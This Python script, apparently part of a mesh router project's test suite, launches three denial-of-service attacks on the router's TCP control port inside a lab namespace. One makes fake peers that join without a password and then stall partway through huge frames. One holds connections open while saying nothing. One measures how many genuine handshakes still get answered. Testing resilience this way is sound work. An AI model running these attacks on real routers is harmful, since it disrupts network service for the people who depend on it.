"""Attacks on a router's TCP control port, run as a program inside a lab namespace.

    python mesh_attack.py big-frames HOST SOURCES...   fake peers (one per source address) that
        complete the handshake without a password, then each announce a largest frame and
        send all of it but the last byte; prints "handshaken N" once all N are in
    python mesh_attack.py silent HOST N SECONDS         N connections that say nothing, each
        reopened as soon as the router closes it, for SECONDS; prints "holding" once N were opened
    python mesh_attack.py handshakes HOST N             N genuine handshakes, 0.5 s apart, each
        given 3 s; prints "answered K of N"

Built on the project's own codec, so the bytes are exactly what a peer would send.
"""

from __future__ import annotations

import asyncio
import random
import struct
import sys
import time

from weave_fdp.router.mesh import codec

PORT = 6783


async def _frame(reader: asyncio.StreamReader) -> bytes:
    (n,) = struct.unpack("!I", await reader.readexactly(4))
    return await reader.readexactly(n)


async def fake_peer(host: str, source: str, i: int) -> asyncio.StreamWriter:
    reader, writer = await asyncio.open_connection(host, PORT, local_addr=(source, 0))
    writer.write(codec.encode_preamble())
    await reader.readexactly(codec.PREAMBLE.size)
    writer.write(codec.encode_frame(codec.encode_hello(codec.Hello(False, None))))
    await _frame(reader)
    name = ":".join(f"{b:02x}" for b in [0x7e, 0xfa, 0x4e, i >> 8, i & 0xFF, random.randrange(256)])
    features = codec.Features(name, f"fake{i}", random.getrandbits(63), int(time.time() * 1000),
                              random.randrange(4096), random.getrandbits(63), (), False, PORT, "attack")
    writer.write(codec.encode_frame(codec.encode_features(features)))
    await _frame(reader)
    return writer


async def big_frames(host: str, sources: list[str]) -> None:
    writers = await asyncio.gather(*(fake_peer(host, s, i) for i, s in enumerate(sources)))
    print(f"handshaken {len(writers)}", flush=True)
    body = bytes(1 << 20)
    for w in writers:     # announce the largest frame, send all of it but the last byte
        w.write(struct.pack("!I", codec.MAX_FRAME))
        for _ in range(codec.MAX_FRAME // len(body) - 1):
            w.write(body)
        w.write(body[:-1])
    await asyncio.sleep(60)   # hold (the test kills us)


async def silent(host: str, n: int, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    opened = 0

    async def one() -> None:
        nonlocal opened
        while time.monotonic() < deadline:
            try:
                reader, writer = await asyncio.open_connection(host, PORT)
                opened += 1
                if opened == n:
                    print("holding", flush=True)
                await asyncio.wait_for(reader.read(1 << 16), deadline - time.monotonic())
                while await asyncio.wait_for(reader.read(1 << 16), deadline - time.monotonic()):
                    pass      # the router's preamble: keep silent until it gives up on us
                writer.close()
            except (OSError, asyncio.TimeoutError):
                pass
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(n)))
    print(f"opened {opened}", flush=True)


async def handshakes(host: str, n: int) -> None:
    answered = 0
    for i in range(n):
        try:
            writer = await asyncio.wait_for(fake_peer(host, "0.0.0.0", 1000 + i), 3.0)
            writer.close()
            answered += 1
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
            pass
        await asyncio.sleep(0.5)
    print(f"answered {answered} of {n}", flush=True)


def main() -> None:
    kind, host, *rest = sys.argv[1:]
    if kind == "big-frames":
        asyncio.run(big_frames(host, rest))
    elif kind == "handshakes":
        asyncio.run(handshakes(host, int(rest[0])))
    elif kind == "silent":
        asyncio.run(silent(host, int(rest[0]), float(rest[1])))
    else:
        raise SystemExit(f"unknown attack {kind!r}")


if __name__ == "__main__":
    main()
